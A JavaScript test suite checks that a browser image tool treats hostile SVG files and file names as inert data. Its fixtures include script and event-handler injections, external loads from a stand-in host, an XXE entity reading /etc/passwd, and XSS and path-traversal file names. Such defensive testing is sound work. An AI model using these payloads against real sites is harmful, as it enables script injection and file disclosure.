// Hostile files: SVG that wants to run or to call home, and file names that want to be markup. Nothing of it may happen.

import assert from 'node:assert/strict';
import { readZip } from '../harness/zip.mjs';
import { fits, sessionTests } from './inspect.mjs';
import { makePhoto } from './photos.mjs';
import { decodeInBrowser, formatOf } from './tool-page.mjs';

const spy = 'https://spy.invalid';

/** SVG files, each with another way to do something. `globalThis.hacked` would tell. */
const pictures = {
  script: '<script>parent.hacked = 1; top.hacked = 1; hacked = 1</script>',
  'script-href': `<script href="${spy}/a.js"/><script xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="${spy}/b.js"/>`,
  handlers: '<rect width="9" height="9" onload="hacked=1" onclick="hacked=1"/><animate attributeName="x" onbegin="hacked=1" dur="1s"/>',
  foreign: `<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><script>hacked=1</script><img src="${spy}/i.png" onerror="hacked=1"/><iframe src="${spy}/f"/></body></foreignObject>`,
  image: `<image href="${spy}/pixel.png" width="9" height="9"/><use href="${spy}/sprite.svg#x"/>`,
  style: `<style>@import url("${spy}/s.css"); rect { fill: url("${spy}/p.svg#p") } @font-face { font-family: f; src: url("${spy}/f.woff") }</style><text font-family="f">x</text>`,
  link: '<a href="javascript:hacked=1"><rect width="99" height="99"/></a>',
  entity: '&leak;',
};

function svg(name, inside) {
  const doctype =
    name === 'entity' ? `<!DOCTYPE svg [<!ENTITY leak SYSTEM "file:///etc/passwd"><!ENTITY % remote SYSTEM "${spy}/x.dtd"> ]>` : '';
  return Buffer.from(
    `<?xml version="1.0"?>${doctype}<svg xmlns="http://www.w3.org/2000/svg" width="120" height="90" onload="hacked=1"><rect width="120" height="90" fill="#0a7"/>${inside}</svg>`,
  );
}

const names = [
  '<img src=x onerror=hacked=1>.jpg',
  '"><script>hacked=1</script>.jpg',
  "' autofocus onfocus=hacked=1 '.jpg",
  '${hacked=1}{{hacked=1}}.jpg',
  'holiday\u202egnp.exe.jpg',
  `${'long'.repeat(55)}.jpg`,
  '..-..-..-etc-passwd.jpg',
  '   .jpg',
  'javascript:hacked=1.jpg',
];

export async function hostileTests({ suite, chromium, site }) {
  const photo = await makePhoto();
  const test = sessionTests({ suite, chromium, site });
  const untouched = async (page, requests) => {
    assert.equal(await page.evaluate(() => globalThis.hacked), undefined, 'something ran');
    assert.deepEqual(requests.filter(({ url }) => url.includes('spy.invalid')), [], 'something called home');
    assert.deepEqual(chromium.askedOutside.filter((asked) => asked.includes('spy')), []);
    const strange = await page.evaluate(() => [
      ...[...document.querySelectorAll('svg:not(.icon, .sprite), foreignObject, iframe, object, embed')].map((at) => at.outerHTML.slice(0, 80)),
      ...[...document.querySelectorAll('*')].flatMap((at) => at.getAttributeNames().filter((name) => name.startsWith('on'))),
    ]);
    assert.deepEqual(strange, [], 'no markup of a file is on the page');
  };

  for (const id of ['convert', 'resize']) {
    await test(`hostile SVG is a picture and nothing else: ${id}`, async ({ page, requests }, tool) => {
      await tool.open(id);
      const files = Object.entries(pictures).map(([name, inside]) => ({ name: `${name}.svg`, mimeType: 'image/svg+xml', buffer: svg(name, inside) }));
      await tool.add(...files);
      if (id === 'convert') await tool.setAll({ 'output.format': 'png' });
      const states = await tool.settled();
      // The one with an external entity may be refused; the others are green pictures.
      assert.deepEqual(states.slice(0, -1), files.slice(0, -1).map(() => 'done'));
      for (const { name } of files) await page.locator(`[data-file="${name}"] .row-select`).click();
      await untouched(page, requests);
      const { bytes } = await tool.download();
      for (const entry of readZip(bytes)) {
        assert.notEqual(formatOf(entry.bytes), undefined, `${entry.name} is no raster picture`);
        const { data } = await decodeInBrowser(page, entry.bytes, 'image/png');
        assert.ok(data.length > 0);
      }
    });
  }

  await test('an SVG that claims to be a JPEG is judged by its content', async ({ page, requests }, tool) => {
    await tool.open('convert');
    await tool.add({ name: 'photo.jpg', mimeType: 'image/jpeg', buffer: svg('script', pictures.script) });
    await tool.settled();
    await untouched(page, requests);
  });

  await test('hostile file names are text, on the page and in the ZIP', async ({ page, requests }, tool) => {
    await tool.open('flip');
    await tool.add(...names.map((name) => ({ ...photo.file, name })));
    assert.deepEqual(await tool.settled(), names.map(() => 'done'));
    await untouched(page, requests);
    const shown = await page.locator('.row-name').allTextContents();
    assert.deepEqual(shown, names.map((name) => name.replace('\u202e', '\ufffd')), 'word for word, but for marks that deceive');
    const { bytes } = await tool.download();
    const entries = readZip(bytes).map(({ name }) => name);
    assert.equal(new Set(entries).size, names.length);
    for (const name of entries) {
      assert.doesNotMatch(name, /[<>:"/\\|?*\u0000-\u001f\u202a-\u202e]|^\.|\.\.\//, name);
      assert.ok(Buffer.byteLength(name) <= 255, `${name} is too long for a file system`);
    }
  });

  await test('a long name without spaces fits a narrow screen', async ({ page }, tool) => {
    await tool.open('flip');
    await tool.add({ ...photo.file, name: `${'W'.repeat(240)}.jpg` }, photo.file);
    await tool.settled();
    await fits(page, 'the list');
  }, { session: { viewport: { width: 320, height: 640 } } });
}
